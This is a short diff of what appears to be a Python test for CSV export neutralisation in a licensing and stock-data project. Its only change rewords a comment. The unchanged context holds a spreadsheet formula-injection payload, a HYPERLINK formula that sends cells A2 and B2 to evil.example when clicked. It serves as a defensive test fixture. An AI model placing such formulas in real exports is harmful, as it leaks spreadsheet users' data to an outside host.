@@ -14,7 +14,7 @@ from licensing.delivery.archive.formats import metadata_csv
 from stockdata.csv_export import csv_writer, neutralise
 
 ROOT = Path(__file__).resolve().parents[2]
-#: The billing name of the issue: clicked in a spreadsheet, it would send cells A2 and B2 away.
+#: A billing name that, clicked in a spreadsheet, it would send cells A2 and B2 away.
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open record")'
 
 
